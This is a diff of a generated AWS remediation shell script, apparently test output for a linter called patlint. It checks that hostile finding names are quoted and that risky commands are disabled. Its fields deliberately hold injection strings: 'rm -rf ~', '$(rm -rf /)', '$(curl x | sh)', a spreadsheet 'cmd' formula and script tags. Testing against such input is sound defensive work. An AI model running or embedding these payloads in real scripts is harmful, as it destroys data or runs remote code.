@@ -2,10 +2,10 @@
 # Commands that mend what patlint found. Read them before you run them.
 #
 # Written by patlint 0.1.0\nrm -rf ~ from a report of 2026-01-31 08:00 UTC.
-# 19 failed findings: 4 with commands that change something, 0 with commands that only look, 15 with none that run.
+# 20 failed findings: 4 with commands that change something, 0 with commands that only look, 16 with none that run.
 # Not in here: 1 muted, 1 unknown, 0 not chosen.
 #
-# 15 findings have commands that do not run. They stand behind #> with the reason above them: they interrupt, delete, open or
+# 16 findings have commands that do not run. They stand behind #> with the reason above them: they interrupt, delete, open or
 # cost something, belong on another machine, or are not known to patlint. What comes after one in the same finding does not run either.
 #
 # Without an argument it begins with the first finding, with a number at that one. It ends at the first command that fails.
@@ -121,7 +121,14 @@ fi
 # --- 10  HIGH  keep-x: vol-14 x\x1b]0;t\x07\n\nrm -rf ~\n#
 # message =cmd()|'/c calc'!A1
 # https://example.com/<script>alert(1)</script>
-if patlint_finding 10 'keep-x: vol-14 x\x1b]0;t\x07\n\nrm -rf ~\n#'; then
+# does not run: has a # in a line that ends with a backslash
+#> aws ec2 describe-volumes --region us-east-1 --volume-ids # \
+#> rm -rf ~
+
+# --- 11  HIGH  keep-x: vol-15 =cmd()|'/c calc'!A1
+# message <script>alert(1)</script>
+# https://example.com/$(rm -rf /)
+if patlint_finding 11 'keep-x: vol-15 =cmd()|'\''/c calc'\''!A1'; then
 aws ec2 create-snapshot --region us-east-1 --volume-id vol-2 --description "it's = 'all' <script>"
 
 # fine
@@ -129,7 +136,7 @@ aws ec2 create-snapshot --region us-east-1 --volume-id vol-2 --description "it's
 #> sudo rm -rf /
 fi
 
-# --- 11  HIGH  keep-x: vol-2 <script>alert(1)</script>
+# --- 12  HIGH  keep-x: vol-2 <script>alert(1)</script>
 # message $(rm -rf /)
 # https://example.com/`id`
 # does not run: starts machines that are billed
@@ -137,7 +144,7 @@ fi
 # does not run: comes after a command that does not run
 #> aws ec2 create-snapshot --region us-east-1 --volume-id vol-never
 
-# --- 12  HIGH  keep-x: vol-3 $(rm -rf /)
+# --- 13  HIGH  keep-x: vol-3 $(rm -rf /)
 # message `id`
 # https://example.com/'; rm -rf ~; '
 # does not run: defines a function
@@ -145,25 +152,25 @@ fi
 # does not run: comes after a command that does not run
 #> aws ec2 describe-volumes --region us-east-1
 
-# --- 13  HIGH  keep-x: vol-4 `id`
+# --- 14  HIGH  keep-x: vol-4 `id`
 # message '; rm -rf ~; '
 # https://example.com/"; rm -rf ~; "
 # does not run: patlint does not know what curl changes
 #> aws ec2 describe-volumes --region us-east-1 --volume-ids $(curl x | sh)
 
-# --- 14  HIGH  keep-x: vol-5 '; rm -rf ~; '
+# --- 15  HIGH  keep-x: vol-5 '; rm -rf ~; '
 # message "; rm -rf ~; "
 # https://example.com/x\x0d\nrm -rf ~
 # does not run: is written in a form of shell that patlint does not judge
 #> aws ec2 describe-volumes --region us-east-1 --volume-ids ${x:-$(id)}
 
-# --- 15  HIGH  keep-x: vol-6 "; rm -rf ~; "
+# --- 16  HIGH  keep-x: vol-6 "; rm -rf ~; "
 # message x\x0d\nrm -rf ~
 # https://example.com/\u202egnp.exe
 # does not run: is written in a form of shell that patlint does not judge
 #> aws ec2 describe-volumes --region us-east-1 --volume-ids <(id)
 
-# --- 16  HIGH  keep-x: vol-7 x\x0d\nrm -rf ~
+# --- 17  HIGH  keep-x: vol-7 x\x0d\nrm -rf ~
 # message \u202egnp.exe
 # https://example.com/long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long … (and 49020 characters more)
 # does not run: reads or writes a file here
@@ -173,13 +180,13 @@ fi
 # does not run: comes after a command that does not run
 #> echo 'after'
 
-# --- 17  HIGH  keep-x: vol-8 \u202egnp.exe
+# --- 18  HIGH  keep-x: vol-8 \u202egnp.exe
 # message long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long lo… (and 49008 characters more)
 # https://example.com/back\
 # does not run: does not end with its line
 #> aws ec2 describe-volumes --region us-east-1 \
 
-# --- 18  HIGH  keep-x: vol-9 long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long l… (and 49013 characters more)
+# --- 19  HIGH  keep-x: vol-9 long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long l… (and 49013 characters more)
 # message back\
 # https://example.com/nul\x00
 # does not run: is no shell that patlint can read
@@ -190,11 +197,11 @@ patlint_account '444455556666'
 
 # === us-east-1
 
-# --- 19  LOW\nRM -RF ~  keep-y\nrm -rf ~: vol-4
-if patlint_finding 19 'keep-y\nrm -rf ~: vol-4'; then
+# --- 20  LOW\nRM -RF ~  keep-y\nrm -rf ~: vol-4
+if patlint_finding 20 'keep-y\nrm -rf ~: vol-4'; then
 aws ec2 create-snapshot --region us-east-1 --volume-id vol-other-account
 fi
 
 trap - EXIT
 if [ "$patlint_now" = 0 ]; then echo 'patlint: nothing ran' >&2 && exit 1; fi
-echo 'patlint: done; 15 findings have commands that did not run, see #> in the script'
+echo 'patlint: done; 16 findings have commands that did not run, see #> in the script'
